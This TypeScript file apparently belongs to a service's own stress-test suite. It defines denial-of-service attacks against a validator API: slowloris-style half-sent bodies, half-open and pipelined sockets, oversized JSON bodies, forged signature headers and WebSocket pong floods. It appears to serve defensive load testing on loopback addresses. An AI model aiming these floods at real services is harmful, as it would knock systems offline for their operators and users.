import { randomBytes, randomUUID } from "node:crypto";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { WebSocket } from "ws";
import { sha256Hex } from "../../src/core/hash.ts";
import type { Keypair } from "../../src/keys/keypair.ts";
import { keypairOfUri } from "../../src/keys/uri.ts";
import { RawClient } from "../rawClient.ts";

/** What an attacker knows of the validator; all of it is public. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly validator: string;
  readonly epoch: number;
  /** A closed epoch with a long log. */
  readonly closedEpoch: number;
}

type Attack = (target: Target) => Promise<void>;

const RECONNECT_MS = 100;

/** Keeps a connection open for ever: `use` works on each; a connection that ends is replaced. */
async function hold(target: Target, localAddress: string, use: (socket: Socket) => void): Promise<never> {
  const { host, port } = target;
  for (;;) {
    await new Promise<void>((resolve) => {
      const socket = connect({ host, port, localAddress }, () => use(socket));
      socket.on("error", () => undefined).on("close", () => resolve());
    });
    await sleep(RECONNECT_MS);
  }
}

function holdMany(target: Target, count: number, addresses: number, use: (socket: Socket) => void): void {
  for (let i = 0; i < count; i++) void hold(target, `127.0.2.${1 + (i % addresses)}`, use);
}

/** Sends the next request of `make` as soon as the last was answered, `perS` altogether over many connections. */
function askMany(target: Target, count: number, addresses: number, perS: number, make: () => Buffer): void {
  const pauseMs = (1000 * count) / perS;
  const one = async (index: number): Promise<never> => {
    for (;;) {
      const { host, port } = target;
      const client = new RawClient({ host, port, localAddress: `127.0.2.${1 + (index % addresses)}` });
      try {
        for (;;) {
          const begun = performance.now();
          await client.send(make());
          await sleep(Math.max(0, pauseMs - (performance.now() - begun)));
        }
      } catch {
        client.close();
        await sleep(RECONNECT_MS);
      }
    }
  };
  for (let i = 0; i < count; i++) void one(i);
}

const get = (path: string): Buffer => Buffer.from(`GET ${path} HTTP/1.1\r\nHost: attack\r\n\r\n`);

function post(
  body: string,
  headers: Readonly<Record<string, string>>,
  sentBytes = Number.POSITIVE_INFINITY,
): Buffer {
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  return Buffer.from(
    `POST /v1/submissions HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\n` +
      `Content-Length: ${Buffer.byteLength(body)}\r\n${lines.join("")}\r\n${body.slice(0, sentBytes)}`,
  );
}

function claim(target: Target, hotkey: string, uuid: string, at: number): Record<string, string> {
  return {
    "Epistula-Version": "2",
    "Epistula-Timestamp": String(at),
    "Epistula-Uuid": uuid,
    "Epistula-Signed-By": hotkey,
    "Epistula-Signed-For": target.validator,
  };
}

function signed(target: Target, keypair: Keypair, body: string): Record<string, string> {
  const [uuid, at] = [randomUUID(), Date.now()];
  const message = Buffer.from(`${sha256Hex(body)}.${uuid}.${at}.${target.validator}`);
  const signature = Buffer.from(keypair.sign(message)).toString("hex");
  return { ...claim(target, keypair.hotkey, uuid, at), "Epistula-Request-Signature": `0x${signature}` };
}

/** The right shape, and a mark that lets the signature reach the curve. */
function forged(target: Target, hotkey: string): Record<string, string> {
  const signature = randomBytes(64);
  signature[63] = ((signature[63] as number) & 0x0f) | 0x80;
  return {
    ...claim(target, hotkey, randomUUID(), Date.now()),
    "Epistula-Request-Signature": `0x${signature.toString("hex")}`,
  };
}

function answerTo(target: Target, tier: number): string {
  const challenge_id = `pm-t${tier}-e${target.epoch}-${randomBytes(12).toString("hex")}`;
  return JSON.stringify({ challenge_id, assignment_b64: randomBytes(50).toString("base64") });
}

const attackers = (count: number): Promise<Keypair[]> =>
  Promise.all(Array.from({ length: count }, (_, i) => keypairOfUri(`//Attacker//${i}`)));

/** About 63 KB. */
const unknownMembers = JSON.stringify(
  Object.fromEntries(Array.from({ length: 6400 }, (_, i) => [`k${i.toString(36)}`, 0])),
);

/** A masked pong without payload, many times. */
const pongs = Buffer.alloc(6 * 1024);
for (let at = 0; at < pongs.length; at += 6) pongs.set([0x8a, 0x80], at);
const PONGS_PER_S = 67_000;

/** Floods one stream that any hotkey may open. */
async function flood(target: Target, keypair: Keypair): Promise<never> {
  for (;;) {
    const url = `ws://${target.host}:${target.port}/v1/stream`;
    const socket = new WebSocket(url, { headers: signed(target, keypair, ""), localAddress: "127.0.2.1" });
    const closed = new Promise<void>((resolve) => {
      socket.on("error", () => undefined).on("close", () => resolve());
    });
    socket.on("upgrade", ({ socket: raw }) => {
      const timer = setInterval(() => raw.write(pongs), (1000 * 1024) / PONGS_PER_S);
      socket.on("close", () => clearInterval(timer));
    });
    await closed;
    await sleep(RECONNECT_MS);
  }
}

/** Every attack that sends requests, by the name of its figure; each runs until its process ends. */
export const attacks = {
  async pipelined_unread(target) {
    const requests = Buffer.alloc(65_536, get("/openapi.json"));
    holdMany(target, 200, 20, (socket) => {
      socket.pause();
      socket.write(requests);
    });
  },
  async audit_readers(target) {
    const path = `/v1/audit/${target.closedEpoch}`;
    holdMany(target, 64, 64, (socket) => {
      socket.on("data", () => undefined);
      const timer = setInterval(() => socket.write(get(path)), 250);
      socket.on("close", () => clearInterval(timer));
    });
  },
  async unknown_members(target) {
    const body = post(unknownMembers, {});
    askMany(target, 16, 16, 200, () => body);
  },
  async forged_ids(target) {
    const [victim] = await attackers(1);
    const hotkey = victim?.hotkey ?? "";
    askMany(target, 64, 250, 1000, () => {
      return post(answerTo(target, 1), forged(target, hotkey));
    });
  },
  async foreign_ids(target) {
    const pairs = await attackers(32);
    let next = 0;
    askMany(target, 64, 250, 400, () => {
      const body = answerTo(target, 2);
      return post(body, signed(target, pairs[next++ % pairs.length] as Keypair, body));
    });
  },
  async indexed_ids(target) {
    const pairs = await attackers(200);
    let next = 0;
    askMany(target, 64, 250, 1000, () => {
      const { hotkey } = pairs[next++ % pairs.length] as Keypair;
      return post(answerTo(target, 1 + (next % 2)), forged(target, hotkey));
    });
  },
  async pongs(target) {
    const [keypair] = await attackers(1);
    await flood(target, keypair as Keypair);
  },
  async half_sent_bodies(target) {
    const part = post(answerTo(target, 1), {}, 20);
    holdMany(target, 500, 50, (socket) => socket.write(part));
  },
  async half_open_sockets(target) {
    holdMany(target, 1000, 100, (socket) => socket.write("POST /v1/submissions HTTP/1.1\r\nHo"));
  },
  async one_address(target) {
    holdMany(target, 4096, 1, () => undefined);
  },
} as const satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof attacks;
